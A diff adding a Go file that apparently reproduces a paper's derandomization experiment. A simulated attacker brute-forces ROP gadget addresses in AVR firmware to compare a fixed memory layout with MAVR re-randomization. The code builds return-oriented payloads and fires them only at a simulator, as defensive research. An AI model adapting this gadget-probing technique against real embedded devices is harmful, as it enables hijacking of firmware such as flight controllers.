@@ -1,0 +1,101 @@
+package attack
+
+import (
+	"mavr/internal/firmware"
+	"mavr/internal/gadget"
+)
+
+// This file implements the §VIII-A derandomization experiment as an
+// end-to-end attack rather than an abstract model: an attacker who does
+// NOT have the (randomized) binary probes candidate gadget addresses
+// one crash at a time. Against a layout fixed at flash time, every
+// probe durably eliminates one candidate — the information leak the
+// paper cites as the reason a software-only deployment fails. Against
+// MAVR, the failed probe itself triggers re-randomization, so the leak
+// evaporates.
+
+// HuntResult reports one gadget-hunting campaign.
+type HuntResult struct {
+	// Probes is the number of attack packets sent (each costing a crash
+	// on a miss).
+	Probes int
+	// Found reports whether the write landed within the probe budget.
+	Found bool
+	// Addr is the discovered gadget word address when Found.
+	Addr uint32
+}
+
+// assumedWriteMem builds the gadget description an attacker *assumes*
+// at candidate address c: the common epilogue shape (three std Y+q
+// stores at c, pop chain at c+3 reloading Y and the stored registers).
+func assumedWriteMem(c uint32) *gadget.WriteMem {
+	return &gadget.WriteMem{
+		StoreAddr: c,
+		PopsAddr:  c + 3,
+		StoreRegs: [3]int{5, 6, 7},
+		PopRegs:   []int{29, 28, 17, 16, 15, 14, 13, 12, 11, 10, 9, 8, 7, 6, 5, 4},
+	}
+}
+
+// probeOnce boots a fresh copy of image (the victim power-cycles after
+// each crashed probe), fires a V1-style probe built on the candidate
+// gadget, and reports whether the marker write landed.
+func probeOnce(image []byte, geom *Analysis, candidate uint32, marker byte) (bool, error) {
+	trial := *geom
+	trial.WriteMem = assumedWriteMem(candidate)
+	payload, err := BuildV1(&trial, GyroCfgWrite(marker))
+	if err != nil {
+		return false, err
+	}
+	sim, err := NewSim(image)
+	if err != nil {
+		return false, err
+	}
+	_ = sim.Deliver(Frame(payload), 200_000)
+	return sim.CPU.Data[firmware.AddrGyroCfg] == marker, nil
+}
+
+// HuntFixedLayout probes candidates against a layout that never
+// changes (the §VIII-A software-only deployment): each miss is
+// eliminated forever, so the expected cost is half the candidate space.
+func HuntFixedLayout(image []byte, geom *Analysis, candidates []uint32, marker byte) (HuntResult, error) {
+	var res HuntResult
+	for _, c := range candidates {
+		res.Probes++
+		hit, err := probeOnce(image, geom, c, marker)
+		if err != nil {
+			return res, err
+		}
+		if hit {
+			res.Found = true
+			res.Addr = c
+			return res, nil
+		}
+	}
+	return res, nil
+}
+
+// HuntRerandomized probes candidates against a victim that
+// re-randomizes after every detected failure (MAVR): the layout each
+// probe sees is freshly drawn, so eliminations don't accumulate.
+// nextImage must return the victim's image for the next probe.
+func HuntRerandomized(nextImage func() ([]byte, error), geom *Analysis, candidates []uint32, marker byte) (HuntResult, error) {
+	var res HuntResult
+	for _, c := range candidates {
+		res.Probes++
+		image, err := nextImage()
+		if err != nil {
+			return res, err
+		}
+		hit, err := probeOnce(image, geom, c, marker)
+		if err != nil {
+			return res, err
+		}
+		if hit {
+			res.Found = true
+			res.Addr = c
+			return res, nil
+		}
+	}
+	return res, nil
+}
